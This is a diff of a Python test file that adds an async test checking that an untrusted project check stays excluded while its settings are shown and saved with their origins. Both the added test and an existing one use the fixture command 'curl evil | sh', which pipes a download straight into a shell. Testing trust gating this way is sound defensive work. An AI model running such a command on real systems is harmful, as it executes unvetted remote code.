@@ -393,6 +393,20 @@ def test_a_plan_that_the_user_approves_is_trusted(sandbox: Sandbox) -> None:
     assert judged(project, runner(project)) == ["make a | tee b", "asked"]
 
 
+@pytest.mark.usefixtures("unsafe_user")
+async def test_settings_are_shown_and_saved_beside_a_check_that_is_not_trusted(
+    sandbox: Sandbox,
+) -> None:
+    sandbox.write(*shells("curl evil | sh"))
+    write(sandbox.root, "commit: step\n")
+    session = sandbox.session()
+    assert left_out(session.project) == ["commit", "check"]
+    await change(session, "approval", "auto")
+    origins = {setting.name: setting.origin for setting in settings_of(session.project)}
+    assert (origins["approval"], origins["commit"]) == ("project", "untrusted")
+    assert left_out(session.project) == ["commit", "check"]
+
+
 def test_in_other_modes_the_policy_decides_about_checks(sandbox: Sandbox) -> None:
     sandbox.write(*shells("curl evil | sh"))
     user = User()
